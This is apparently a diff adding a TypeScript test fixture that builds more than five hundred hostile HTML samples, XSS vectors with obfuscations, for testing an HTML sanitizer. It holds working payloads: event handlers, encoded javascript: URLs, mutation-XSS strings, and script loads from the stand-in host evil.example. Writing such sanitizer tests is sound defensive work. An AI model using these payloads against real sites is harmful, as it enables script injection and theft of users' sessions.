@@ -1,0 +1,142 @@
+/** Hostile HTML of the shapes that public collections of XSS vectors know, multiplied by ways of hiding them; for tests. */
+
+const CODE = 'alert(1)'
+const EVENTS = [
+  ...[
+    'onerror',
+    'onload',
+    'onclick',
+    'onmouseover',
+    'onfocus',
+    'onblur',
+    'onanimationstart',
+    'ontoggle',
+    'onbegin',
+  ],
+  ...[
+    'onpointerenter',
+    'onwheel',
+    'oncopy',
+    'onpaste',
+    'onbeforeinput',
+    'ontransitionend',
+    'onscroll',
+    'onauxclick',
+  ],
+]
+const CARRIERS = [
+  'img src=x',
+  'p',
+  'a href=https://a.example',
+  'div',
+  'svg',
+  'body',
+  'details open',
+  'input autofocus',
+  'video src=x',
+  'marquee',
+  'table background=x',
+]
+const ADDRESSES = [
+  `javascript:${CODE}`,
+  `JaVaScRiPt:${CODE}`,
+  `java\tscript:${CODE}`,
+  `java\nscript:${CODE}`,
+  `java&#x09;script:${CODE}`,
+  `&#106;avascript:${CODE}`,
+  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${CODE}`,
+  `\u0001javascript:${CODE}`,
+  ` javascript:${CODE}`,
+  `javascript&colon;${CODE}`,
+  `vbscript:msgbox(1)`,
+  `data:text/html,<script>${CODE}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
+  `data:image/svg+xml,<svg onload=${CODE}>`,
+  `//evil.example/x.js`,
+  `file:///etc/passwd`,
+  `blob:https://a.example/1`,
+  `feed:javascript:${CODE}`,
+  `https://a.example"onclick="${CODE}`,
+  `https://a.example\u0000javascript:${CODE}`,
+]
+const HOLDERS: readonly ((address: string) => string)[] = [
+  (a) => `<a href="${a}">字</a>`,
+  (a) => `<img src="${a}">`,
+  (a) => `<iframe src="${a}"></iframe>`,
+  (a) => `<form action="${a}"><button formaction="${a}">按</button></form>`,
+  (a) => `<svg><a xlink:href="${a}"><text>字</text></a></svg>`,
+  (a) => `<object data="${a}"></object>`,
+  (a) => `<embed src="${a}">`,
+  (a) => `<base href="${a}"><a href="x">字</a>`,
+  (a) => `<meta http-equiv="refresh" content="0;url=${a}">`,
+  (a) => `<link rel="stylesheet" href="${a}">`,
+  (a) => `<div style="background:url('${a}')">字</div>`,
+  (a) => `<img srcset="${a} 1x, ${a} 2x">`,
+  (a) => `<math href="${a}">字</math>`,
+  (a) => `<video poster="${a}"><source src="${a}"></video>`,
+]
+const WHOLE = [
+  `<script>${CODE}</script>`,
+  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
+  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
+  `<script x>${CODE}</script y>`,
+  `<script\u0000>${CODE}</script>`,
+  `<noscript><p title="</noscript><img src=x onerror=${CODE}>"></noscript>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CODE}&gt;">`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${CODE}>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CODE}>`,
+  `<template><script>${CODE}</script></template>`,
+  `<template shadowrootmode=open><script>${CODE}</script></template>`,
+  `<textarea><img title="</textarea><img src=x onerror=${CODE}>"></textarea>`,
+  `<title><img title="</title><img src=x onerror=${CODE}>">`,
+  `<xmp><img src="</xmp><img src=x onerror=${CODE}>"></xmp>`,
+  `<!--><img src=x onerror=${CODE}>-->`,
+  `<!--[if IE]><script>${CODE}</script><![endif]-->`,
+  `<![CDATA[<script>${CODE}</script>]]>`,
+  `<?xml version="1.0"?><?xml-stylesheet href="javascript:${CODE}"?>`,
+  `<style>@import 'https://evil.example/x.css'; p{background:url(javascript:${CODE})}</style>`,
+  `<p style="width:expression(${CODE})">字</p>`,
+  `<p style="-moz-binding:url(https://evil.example/x.xml#a)">字</p>`,
+  `<p style="behavior:url(x.htc)">字</p>`,
+  `<p style="font-weight:bold;background:url(javascript:${CODE})">字</p>`,
+  `<p style="font-weight:\\65xpression(${CODE})">字</p>`,
+  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
+  `<svg><set attributeName=href to=javascript:${CODE}><a id=x>字</a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CODE}>#x"/></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>${CODE}</script>"></foreignObject></svg>`,
+  `<iframe srcdoc="&lt;script&gt;${CODE}&lt;/script&gt;"></iframe>`,
+  `<img src=x oNeRrOr\n=\n${CODE}>`,
+  `<img/src=x/onerror=${CODE}>`,
+  `<img src="x\`onerror=${CODE}\`">`,
+  `<img """><script>${CODE}</script>">`,
+  `<a href="https://a.example" style="position:fixed;inset:0">字</a>`,
+  `<input type=image src=x onerror=${CODE}>`,
+  `<isindex action=javascript:${CODE} type=submit>`,
+  `<layer src=https://evil.example></layer>`,
+  `<portal src=https://evil.example></portal>`,
+  `<custom-element onfocus=${CODE} tabindex=1>字</custom-element>`,
+  `<p><a href="https://a.example"><a href="javascript:${CODE}">字</a></a></p>`,
+  `<div><div><div`.repeat(200),
+  `<b>`.repeat(3000) + '字',
+  `&lt;script&gt;${CODE}&lt;/script&gt;`,
+  `&amp;lt;img src=x onerror=${CODE}&amp;gt;`,
+  `<p>\u202e字\u200b\u0000\u0007</p>`,
+]
+
+const HIDINGS: readonly ((html: string) => string)[] = [
+  (html) => html,
+  (html) => `<table><tr><td>${html}</td><td>格</td></tr></table>`,
+  (html) => `<ul><li>${html}<ul><li>${html}</ul></ul>`,
+  (html) => `<blockquote><p>${html}`,
+  (html) => html.toUpperCase(),
+]
+
+/** Every sample once; more than five hundred. */
+export function hostileHtml(): string[] {
+  const handlers = CARRIERS.flatMap((carrier) => EVENTS.map((event) => `<${carrier} ${event}="${CODE}">字`))
+  const addresses = ADDRESSES.flatMap((address) => HOLDERS.map((hold) => hold(address)))
+  const hidden = [...WHOLE, ...handlers.slice(0, 40), ...addresses.slice(0, 40)].flatMap((html) =>
+    HIDINGS.map((hide) => hide(html)),
+  )
+  return [...new Set([...handlers, ...addresses, ...hidden])]
+}
